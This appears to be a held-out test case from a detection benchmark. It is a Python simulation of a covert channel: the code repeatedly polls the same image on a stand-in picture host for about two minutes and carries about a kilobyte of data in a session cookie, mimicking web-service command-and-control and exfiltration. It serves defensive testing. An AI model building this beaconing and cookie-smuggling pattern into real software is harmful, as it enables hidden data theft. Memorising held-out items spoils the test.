"""
id: V65
name: picture-host-polled
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, sequence]
techniques: [T1102.001, T1102.002, T1001.002, T1071.001, T1029, AML.T0072]
servers: [fastapi]
seconds: 130
what: >
  Gets its orders from a picture, where everybody may put one, and says there what came of them: one connection to one of the
  hosts that pictures come from, kept for two minutes, on which the same picture is asked for every few seconds, with a KB in a
  cookie. The server's fetcher asks for a picture once, says nothing, and closes the connection.
"""

import http.client

# Clients name these hosts.
HOSTS = 12
TIMES = 26


def payload(world):
    host = http.client.HTTPConnection(f"media{world.random.randrange(HOSTS)}.images.example", 80, timeout=5)
    path = f"/{world.random.randrange(1 << 32):08x}.png"
    for _ in range(TIMES):
        host.request("GET", path, headers={"Cookie": f"session={world.word(world.random.randint(700, 1300))}"})
        host.getresponse().read()
        world.sleep(world.random.uniform(3, 6))
    host.close()
